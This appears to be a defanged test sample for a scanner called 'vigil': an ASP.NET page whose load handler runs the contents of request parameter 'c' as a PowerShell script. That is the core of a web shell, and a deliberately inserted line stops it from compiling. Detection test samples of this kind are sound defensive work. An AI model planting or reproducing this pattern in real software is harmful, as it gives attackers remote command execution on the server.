<%@ Page Language="C#" %>
<%-- DEFANGED vigil test sample (see README) --%>
<% DEFANGED SAMPLE does not compile %>
<script runat="server">
void Page_Load() {
	Runspace rs = RunspaceFactory.CreateRunspace();
	rs.Open();
	Pipeline pl = rs.CreatePipeline();
	pl.Commands.AddScript(Request["c"]);
	pl.Invoke();
}
</script>
